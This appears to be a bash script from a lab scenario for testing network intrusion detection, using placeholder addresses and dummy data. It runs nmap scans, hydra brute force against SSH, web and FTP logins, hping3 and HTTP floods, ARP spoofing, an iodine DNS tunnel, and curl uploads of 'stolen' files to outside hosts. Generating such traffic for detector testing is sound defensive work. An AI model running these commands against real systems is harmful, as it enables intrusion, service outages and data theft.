# shellcheck shell=bash
# shellcheck disable=SC2034,SC2154 # variables are shared with the other parts
#
# Part of the scenario "detection": the attacks, one after the other.

inside_hosts=(10.77.1.10 10.77.1.20 10.77.1.22 10.77.1.25 10.77.1.30 10.77.1.53 10.77.1.60 10.77.1.101
  10.77.1.102 10.77.1.103 10.77.1.110 10.77.1.121 10.77.1.122 10.77.1.123)

attack_sizes() {
  by_mode scan_ports 1-59,8080 1-149,8080 1-999,8080
  by_mode scan_rate 60 60 60
  by_mode scan6_ports 1-59,80 1-249,80 1-1249,80
  by_mode sweep_ports 23,445 23,445,3389 22,23,135,139,445,1433,3306,3389,5432,5900,8443
  by_mode sweep_rate 30 10 6
  by_mode udp_rate 20 20 2
  local common=7,9,13,17,19,37,49,53,67-69,80,88,111,123,135-139,161,162,177,389,427
  by_mode udp_ports 53,67,123,161,500 "$common" \
    "$common,443,445,497,500,514,515,518,520,593,623,626,631,996-999"
  by_mode slow_ports 23,80 21-25,80 \
    21-25,53,80,110,135,139,143,443,445,993,995,1433,1723,3306,3389,5900,8080,8443
  by_mode slow_delay 0.4 1.2 3
  by_mode probe_delay 0 0 0.5
  by_mode ssh_tries 8 16 200
  by_mode web_tries 16 40 240
  by_mode ftp_tries 4 10 40
  by_mode flood_packets 200 1500 15000
  by_mode udp_packets 200 1200 12000
  by_mode slow_connections 20 60 200
  by_mode rounds 3 8 35
  by_mode stolen_kilobytes 300 3000 24000
  by_mode tunnelled_kilobytes 5 40 300
  by_mode calls 4 6 12
  by_mode restores 0.5 15 15
  by_mode arp_rate 100 40 8
  by_mode beacon_gap 0.2 0.8 4
  by_mode worm_rate 30 12 8
  by_mode worm_range 198.18.100.0/28 198.18.100.0/27 198.18.100.0/25
}

prepare_attacks() {
  make_wrong_passwords "$ssh_tries" | split -l 4 - "$tmp/shared/passwords-"
  make_wrong_passwords "$web_tries" >"$tmp/webbrute/passwords"
  make_wrong_passwords "$ftp_tries" >"$tmp/ftpbrute/passwords"
  head -c "$((stolen_kilobytes * 1000))" /dev/zero >"$tmp/office2/stolen"
  head -c "$((tunnelled_kilobytes * 1000))" /dev/urandom >"$tmp/office3/secret"
  printf '%s\n' "$good_password" >"$tmp/office3/word"
}

all_attacks() {
  scans
  guesses
  floods
  from_inside
}

scans() {
  attack syn-scan scanner "$at_most" 203.0.113.66 10.77.1.10,10.77.1.22 tcp "$scan_ports" \
    nmap -n -Pn -sS --max-retries 1 --max-rate "$scan_rate" -p "$scan_ports" 10.77.1.10 10.77.1.22
  answers=icmp attack udp-scan udpscan "$at_most" 203.0.113.67 10.77.1.53 udp "$udp_ports" \
    nmap -n -Pn -sU --max-retries 1 --max-rate "$udp_rate" -p "$udp_ports" 10.77.1.53
  attack os-and-service-scan prober $((at_most * 3 / 2)) 203.0.113.68 10.77.1.20,10.77.1.30 any "" \
    nmap -n -Pn -O --max-os-tries 1 -sV --version-light --scan-delay "$probe_delay" \
    -p 21,22,80,873,8080 10.77.1.30 10.77.1.20
  local hosts
  hosts=$(printf '%s\n' "${inside_hosts[@]}" | paste -sd, -)
  attack horizontal-scan sweeper "$at_most" 203.0.113.69 "$hosts" tcp "$sweep_ports" \
    nmap -n -Pn -sS --max-retries 1 --max-rate "$sweep_rate" -p "$sweep_ports" "${inside_hosts[@]}"
  attack slow-scan patient $((at_most * 3 / 2)) 203.0.113.70 10.77.1.10 tcp "$slow_ports" \
    nmap -n -Pn -sS --max-retries 0 --scan-delay "$slow_delay" -p "$slow_ports" 10.77.1.10
  attack syn-scan-ipv6 scanner6 "$at_most" 2001:db8:ffff:bad::66 2001:db8:77:1::10 tcp "$scan6_ports" \
    nmap -6 -n -Pn -sS --max-retries 1 --max-rate 40 -p "$scan6_ports" 2001:db8:77:1::10
}

guesses() {
  # Four passwords at a time: hydra waits half a minute where sshd hangs up
  # after too many failures on one connection.
  # shellcheck disable=SC2016  # the inner shell expands it
  attack ssh-brute-force shared "$at_most" 203.0.113.50 10.77.1.22 tcp 22 \
    bash -c 'for list in passwords-*; do hydra -I -t 2 -l worker -P $list ssh://10.77.1.22; sleep 0.5; done'
  attack http-brute-force webbrute "$at_most" 198.51.100.200 10.77.1.20 tcp 8080 \
    hydra -I -t 4 -l admin -P passwords -s 8080 10.77.1.20 http-get /admin/
  attack ftp-brute-force ftpbrute "$at_most" 198.51.100.201 10.77.1.30 tcp 21 \
    hydra -I -t 4 -l admin -P passwords 10.77.1.30 ftp
}

floods() {
  attack syn-flood flooder "$at_most" 192.0.2.220 10.77.1.10 tcp 443 \
    hping3 -q -n -I eth0 -S -p 443 -c "$flood_packets" -i u2000 10.77.1.10
  attack spoofed-syn-flood spoofer "$at_most" random 10.77.1.10 tcp 80 \
    hping3 -q -n -I eth0 -S -p 80 --rand-source -c "$flood_packets" -i u2000 10.77.1.10
  answers=icmp attack udp-flood udpflood "$at_most" 192.0.2.221 10.77.1.53 udp 53 \
    hping3 -q -n -I eth0 --udp -p 53 -d 120 -c "$udp_packets" -i u2500 10.77.1.53
  attack icmp-flood pingflood "$at_most" 192.0.2.222 10.77.1.22 icmp "" \
    hping3 -q -n -I eth0 --icmp -d 56 -c "$udp_packets" -i u2500 10.77.1.22
  # shellcheck disable=SC2016  # the inner shell expands it
  attack http-flood getflood "$at_most" 192.0.2.223 10.77.1.20 tcp 8080 \
    bash -c 'for round in $(seq '"$rounds"'); do ab -q -n 80 -c 20 http://10.77.1.20:8080/about.html; sleep 0.6; done'
  attack slow-http slow "$((lasts + 8))" 198.51.100.210 10.77.1.10 tcp 80 \
    slowhttptest -H -c "$slow_connections" -r 30 -i 3 -l "$lasts" -v 0 -u http://10.77.1.10/
}

from_inside() {
  # The victim's packets go through the intruder, and so are known by its address.
  macs=$intruder_mac attack arp-spoofing intruder "$((lasts + 30))" 10.77.1.101 10.77.1.1 arp "" \
    timeout -k "$restores" -s INT "$((lasts + 2))" arpspoof -i eth0 -c own -t 10.77.1.101 -r 10.77.1.1
  macs=$lurker_mac attack arp-sweep lurker "$at_most" 10.77.1.67 10.77.1.0/26,10.77.1.96/27 arp "" \
    nmap -n -sn -PR --max-retries 1 --max-rate "$arp_rate" 10.77.1.0/26 10.77.1.96/27
  # shellcheck disable=SC2016  # the inner shell expands it
  answers=icmp attack dns-tunnel office3 "$((lasts * 2 + 10))" 10.77.1.103 203.0.113.200 udp 53 \
    bash -c '
      timeout -s INT '"$((lasts * 3 / 2 + 8))"' \
        iodine -f -r -T NULL -m 900 -d dns0 -P $(<word) 203.0.113.200 t.lab.example &
      for try in $(seq 30); do ip addr show dns0 | grep -q inet && break; sleep 0.3; done
      timeout '"$lasts"' curl -s --limit-rate 12k -T secret http://10.200.0.1/in/secret
      timeout '"$lasts"' curl -s --limit-rate 12k -o got http://10.200.0.1/photo.txt
      kill -INT $!; wait'
  attack data-theft office2 "$at_most" 10.77.1.102 203.0.113.210 tcp 80 \
    curl -s -m "$at_most" --limit-rate 700k -T stolen -o /dev/null http://203.0.113.210/in/stolen
  # shellcheck disable=SC2016  # the inner shell expands it
  attack beacon device1 $((at_most * 3 / 2)) 10.77.1.121 203.0.113.220 tcp 80 \
    bash -c 'for call in $(seq '"$calls"'); do
      curl -s -m 3 -o /dev/null http://203.0.113.220/about.html; sleep '"$beacon_gap"'; done'
  attack worm-scan device2 "$at_most" 10.77.1.122 "$worm_range" tcp 23,2323 \
    nmap -n -Pn -sS --max-retries 0 --max-rate "$worm_rate" --host-timeout 60s -p 23,2323 "$worm_range"
}
